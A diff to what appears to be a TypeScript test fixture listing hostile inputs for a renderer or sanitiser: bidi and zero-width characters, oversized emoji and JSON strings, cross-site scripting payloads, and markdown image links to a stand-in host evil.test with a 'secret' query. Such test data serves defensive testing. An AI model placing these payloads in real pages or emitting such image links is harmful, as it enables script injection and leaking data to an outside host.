@@ -53,7 +53,7 @@ const hostile: Record<string, string> = {
   "invisible characters": "\u200b\u202e\u2066\ufeff",
   "emoji without end": "👩‍👩‍👧‍👦".repeat(4000),
   "a script": '<script>alert(1)</script><img src=x onerror="alert(1)"><svg/onload=alert(1)>',
-  "a picture elsewhere": "![x](https://evil.test/?q=secret) ![y][z]\r\n\r\n[z]: https://evil.test/z.png",
+  "a picture elsewhere": "![x](https://evil.test/?q=secret) ![y][z]\n\n[z]: https://evil.test/z.png",
   "JSON, 12 KB deep": `${"[".repeat(6000)}${"]".repeat(6000)}`,
   "mentions by the thousand": "@nobody ".repeat(5000),
 };
